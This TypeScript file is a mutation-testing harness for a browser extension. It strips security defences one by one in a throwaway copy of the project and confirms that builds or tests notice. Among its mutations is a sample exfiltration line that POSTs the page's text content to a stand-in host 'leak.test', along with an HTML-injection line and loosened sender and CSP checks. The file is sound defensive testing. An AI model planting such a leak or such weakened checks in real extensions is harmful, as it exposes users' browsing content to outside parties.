import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { copyProject } from '../copyProject.ts';

/** A defence that is taken away, and what has to notice. */
interface Mutation {
  defence: string;
  /** In each file the first text is replaced by the second; it must be there exactly once. */
  edits: { file: string; from: string; to: string }[];
  /** What must fail then: the build, or tests by file and, for browser tests, a part of their title. */
  noticedBy: Check;
}
type Check = 'build' | { unit: string } | { browser: string; title?: string };

/** Stands at the top of a file; the edit puts something before it. */
const begin = (file: string, from: string, code: string) => ({ file, from, to: `${code}\n${from}` });

const LEAK =
  "fetch('http://leak.test/', { method: 'POST', mode: 'no-cors', body: String(document.body?.textContent) }).catch(() => {});";
const CONTENT_START = "import { EngineClient } from '../protocol/engineClient.ts';";

export const MUTATIONS: readonly Mutation[] = [
  {
    defence: 'the policy forbids connections',
    edits: [{ file: 'manifest.json', from: "connect-src 'none'", to: 'connect-src *' }],
    noticedBy: 'build',
  },
  {
    defence: 'no file can be asked for by a page',
    edits: [
      {
        file: 'manifest.json',
        from: '"incognito"',
        to: '"web_accessible_resources": [{ "resources": ["icons/*"], "matches": ["<all_urls>"] }],\n  "incognito"',
      },
    ],
    noticedBy: 'build',
  },
  {
    defence: 'the content script has no network call',
    edits: [begin('src/content/content.iife.ts', CONTENT_START, LEAK)],
    noticedBy: 'build',
  },
  {
    defence: 'the content script has no network call, and nobody reads the bundle',
    edits: [
      begin('src/content/content.iife.ts', CONTENT_START, LEAK),
      { file: 'tools/checkBuilt.ts', from: '...problemsOfBundle(folder),', to: '' },
    ],
    noticedBy: { browser: 'test/e2e/privacy.spec.ts', title: 'causes no connection' },
  },
  {
    defence: 'HTML is never written',
    edits: [
      begin(
        'src/content/content.iife.ts',
        CONTENT_START,
        "document.documentElement.insertAdjacentHTML('beforeend', document.title);",
      ),
    ],
    noticedBy: 'build',
  },
  {
    defence: 'WebRTC is taken away before anything else runs',
    edits: [
      {
        file: 'src/protocol/lockdown.ts',
        from: 'Reflect.deleteProperty(globalThis, name);',
        to: 'void name;',
      },
    ],
    noticedBy: { browser: 'test/e2e/engine.spec.ts', title: 'WebRTC' },
  },
  {
    defence: 'a sender must be this extension',
    edits: [
      {
        file: 'src/protocol/sender.ts',
        from: 'return Boolean(id) && id === chrome.runtime.id;',
        to: 'return Boolean(id);',
      },
    ],
    noticedBy: { unit: 'test/unit/protocol/sender.test.ts' },
  },
  {
    defence: 'nobody listens to other extensions',
    edits: [
      begin(
        'src/background/background.ts',
        '/**\n * The service worker (Chrome)',
        "chrome.runtime.onMessageExternal.addListener((_message, _sender, answer) => answer('hello'));",
      ),
    ],
    noticedBy: { browser: 'test/e2e/stranger.spec.ts' },
  },
  {
    defence: 'a page may ask for little',
    edits: [
      {
        file: 'src/protocol/messages.ts',
        from: "page: ['state', 'classify',",
        to: "page: ['lessons', 'state', 'classify',",
      },
    ],
    noticedBy: { unit: 'test/unit/engine/engine.test.ts' },
  },
  {
    defence: 'a private window teaches nothing',
    edits: [
      {
        file: 'src/protocol/messages.ts',
        from: "private: ['state', 'classify', 'explain'],",
        to: "private: ['state', 'classify', 'explain', 'teach'],",
      },
    ],
    noticedBy: { unit: 'test/unit/engine/progress.test.ts' },
  },
  {
    defence: 'pages of a site give no more lessons than a hand could',
    edits: [
      {
        file: 'src/engine/answers/lessons.ts',
        from: 'if (recent.length >= MOST_A_MINUTE) {',
        to: 'if (recent.length === -1) {',
      },
    ],
    noticedBy: { unit: 'test/unit/engine/rate.test.ts' },
  },
  {
    defence: 'a covered card takes no clicks',
    edits: [
      {
        file: 'src/content/exposure.ts',
        from: 'return this.#isKnown ? this.#isVisible : isUntouched() && isAlone(this.#host);',
        to: 'return this.#isVisible || this.#isKnown;',
      },
    ],
    noticedBy: { browser: 'test/e2e/content.spec.ts', title: 'takes no clicks' },
  },
  {
    defence: 'only gestures of a person teach',
    edits: [
      { file: 'src/content/card.ts', from: 'if (!event.isTrusted) return false;', to: '' },
      {
        file: 'src/content/badges.ts',
        from: 'onclick: (event) => event.isTrusted && measure',
        to: 'onclick: (event) => measure',
      },
    ],
    noticedBy: { browser: 'test/e2e/content.spec.ts', title: 'no person made' },
  },
  {
    defence: 'a page can’t look into the overlay',
    edits: [{ file: 'src/content/overlay.ts', from: "mode: 'closed'", to: "mode: 'open'" }],
    noticedBy: { browser: 'test/e2e/content-hostile.spec.ts', title: 'look into the overlay' },
  },
  {
    defence: 'a lesson is on the disk before it is acknowledged',
    edits: [
      {
        file: 'src/engine/store.ts',
        from: "database.transaction(ALL, 'readwrite', { durability: 'strict' })",
        to: "database.transaction(ALL, 'readwrite', { durability: 'relaxed' })",
      },
    ],
    noticedBy: { unit: 'test/unit/engine/store.test.ts' },
  },
  {
    defence: 'what is erased or taken back goes from the backups first',
    edits: [
      {
        file: 'src/engine/holdings.ts',
        from: 'if (!isAsked) await this.#dropBackups(change);',
        to: '',
      },
    ],
    noticedBy: { unit: 'test/unit/engine/backups.test.ts' },
  },
  {
    defence: 'a file’s checksum is compared',
    edits: [
      {
        file: 'src/elm/file/container.ts',
        from: 'if (view.getUint32(8, true) !== checksum)',
        to: 'if (view.getUint32(8, true) === -1)',
      },
    ],
    noticedBy: { unit: 'test/unit/elm/file/container.test.ts' },
  },
  {
    defence: 'numbers of a file are finite and small enough to add',
    edits: [
      { file: 'src/elm/head/head.ts', from: 'Math.abs(value) <= MAX_MAGNITUDE;', to: 'MAX_MAGNITUDE > 0;' },
    ],
    noticedBy: { unit: 'test/unit/elm/head/head.test.ts' },
  },
  {
    defence: 'a text is cut before it is looked at',
    edits: [
      {
        file: 'src/elm/text/normalise.ts',
        from: 'text.length > MAX_TEXT_UNITS ? text.slice(0, MAX_TEXT_UNITS) : text',
        to: 'text',
      },
    ],
    noticedBy: { unit: 'test/unit/elm/text/textFeatures.test.ts' },
  },
];

/** A defence that was taken away, and whether that was noticed. */
export interface Mutated {
  defence: string;
  /** What had to notice. */
  by: string;
  isNoticed: boolean;
}

/** Takes each defence away in a copy of the project. @throws Error when a check fails with all of them in place. */
export function mutate(root: string): Mutated[] {
  const copy = copyProject(root);
  try {
    // A check that fails by itself would notice everything.
    const checks = new Map(MUTATIONS.map(({ noticedBy }) => [JSON.stringify(noticedBy), noticedBy]));
    for (const check of checks.values()) {
      if (!passes(copy, check))
        throw new Error(`fails with every defence in place: ${JSON.stringify(check)}`);
    }
    const mutated: Mutated[] = [];
    for (const { defence, edits, noticedBy } of MUTATIONS) {
      const before = edits.map(({ file }) => readFileSync(join(copy, file), 'utf8'));
      for (const { file, from, to } of edits) edit(join(copy, file), from, to);
      const isNoticed = !passes(copy, noticedBy);
      edits.forEach(({ file }, i) => {
        writeFileSync(join(copy, file), before[i]);
      });
      mutated.push({ defence, by: nameOf(noticedBy), isNoticed });
      console.log(`${isNoticed ? 'noticed  ' : 'UNNOTICED'} without: ${defence}`);
    }
    return mutated;
  } finally {
    rmSync(copy, { recursive: true, force: true });
  }
}

function nameOf(check: Check): string {
  if (check === 'build') return 'the build';
  return `\`${'unit' in check ? check.unit : check.browser}\``;
}

function edit(path: string, from: string, to: string): void {
  const text = readFileSync(path, 'utf8');
  const parts = text.split(from);
  if (parts.length !== 2) throw new Error(`${path} has ${parts.length - 1} times: ${from}`);
  writeFileSync(path, parts.join(to));
}

function passes(folder: string, check: Check): boolean {
  const run = (...args: string[]) =>
    spawnSync(process.execPath, args, {
      cwd: folder,
      encoding: 'utf8',
      env: { ...process.env, NO_COLOR: '1' },
    }).status === 0;
  if (check === 'build') return run('--import', 'tsx', 'tools/build.ts');
  if ('unit' in check) return run('node_modules/vitest/vitest.mjs', 'run', '--testTimeout=60000', check.unit);
  const title = check.title === undefined ? [] : ['-g', check.title];
  return (
    run('--import', 'tsx', 'tools/build.ts') &&
    run('node_modules/@playwright/test/cli.js', 'test', check.browser, ...title)
  );
}
